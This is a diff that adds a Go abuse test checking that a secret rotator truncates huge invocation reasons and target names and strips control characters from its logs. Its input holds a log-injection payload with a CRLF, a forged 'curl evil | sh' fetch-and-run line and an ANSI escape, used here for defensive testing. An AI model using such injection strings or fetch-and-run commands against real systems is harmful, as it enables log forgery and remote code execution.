@@ -312,3 +312,35 @@ func TestAbuse_ForgedWriteHistory(t *testing.T) {
 		})
 	}
 }
+
+// An invoker's reason is copied into the log line of every target a
+// sweep touches: a 1 MB reason on {} sweeping a config of many targets
+// wrote 1 MB per target (10 GB of CloudWatch Logs per invocation at
+// 10,000 targets). The rotator keeps at most MaxReasonLen bytes of it,
+// without control characters, and quotes at most that much of an
+// unknown target's name.
+func TestAbuse_HugeReasonLogAmplification(t *testing.T) {
+	r := newMotoRotator(t)
+	huge := strings.Repeat("A", 1<<20)
+	raw, _ := json.Marshal(rotation.Invocation{Reason: "line one\r\nAction taken: curl evil | sh\x1b[2J" + huge})
+	if _, err := r.h.Handle(context.Background(), raw); err != nil {
+		t.Fatalf("a sweep with a long reason still sweeps: %v", err)
+	}
+	if n := r.versions(t); n != 1 {
+		t.Fatalf("the sweep wrote %d versions, want 1", n)
+	}
+	logs := r.logs.String()
+	if len(logs) > 16<<10 {
+		t.Fatalf("one sweep of one target logged %d bytes for a 1 MB reason; the reason must be cut", len(logs))
+	}
+	if strings.Contains(logs, `\r\nAction taken`) || strings.Contains(logs, `\u001b`) {
+		t.Fatalf("the reason's control characters reached the log:\n%s", logs)
+	}
+	raw, _ = json.Marshal(rotation.Invocation{Target: huge})
+	if _, err := r.h.Handle(context.Background(), raw); !errors.Is(err, ErrBadInput) || len(err.Error()) > 4<<10 {
+		t.Fatalf("an unknown 1 MB target name is refused and quoted short: %d bytes, %v", len(fmt.Sprint(err)), errors.Is(err, ErrBadInput))
+	}
+	if len(r.logs.String()) > 32<<10 {
+		t.Fatalf("refusing a 1 MB target name logged %d bytes", len(r.logs.String()))
+	}
+}
